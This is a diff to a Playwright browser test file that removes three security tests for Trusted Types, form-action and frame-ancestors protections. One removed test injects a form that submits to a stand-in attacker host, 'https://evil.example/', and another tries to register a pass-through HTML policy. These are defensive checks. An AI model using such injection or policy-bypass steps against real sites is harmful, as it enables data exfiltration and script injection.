@@ -67,43 +67,4 @@ test.describe('in the browser', { tag: '@readonly' }, () => {
       })
       expect(outcomes).toEqual(Array(5).fill(outcome))
     })
-
-  test('no script may declare itself trusted', async ({ page }) => {
-    await page.goto('/about')
-    const declared = await page.evaluate(() => {
-      const { trustedTypes } = window as unknown as {
-        trustedTypes: { createPolicy: (name: string, rules: object) => unknown }
-      }
-      try {
-        trustedTypes.createPolicy('default', { createHTML: (text: string) => text })
-        return 'admitted'
-      } catch {
-        return 'refused'
-      }
-    })
-    expect(declared).toBe('refused')
-  })
-
-  test('a form that is injected cannot send anything anywhere', async ({ page }) => {
-    const found = await violations(page)
-    await page.goto('/about')
-    await page.evaluate(() => {
-      const form = document.createElement('form')
-      form.action = 'https://evil.example/'
-      document.body.append(form)
-      form.submit()
-    })
-    await expect.poll(() => found.some((text) => text.startsWith('form-action'))).toBe(true)
-    expect(page.url()).toBe(new URL('/about', BASE_URL).href)
-  })
-
-  test('no page can be framed, not even by a page from here', async ({ page }) => {
-    const said: string[] = []
-    page.on('console', (message) => said.push(message.text()))
-    await page.route('**/framing', (route) =>
-      route.fulfill({ contentType: 'text/html', body: '<iframe src="/about"></iframe>' }),
-    )
-    await page.goto('/framing')
-    await expect.poll(() => said.some((text) => text.includes("frame-ancestors 'none'"))).toBe(true)
-  })
 })
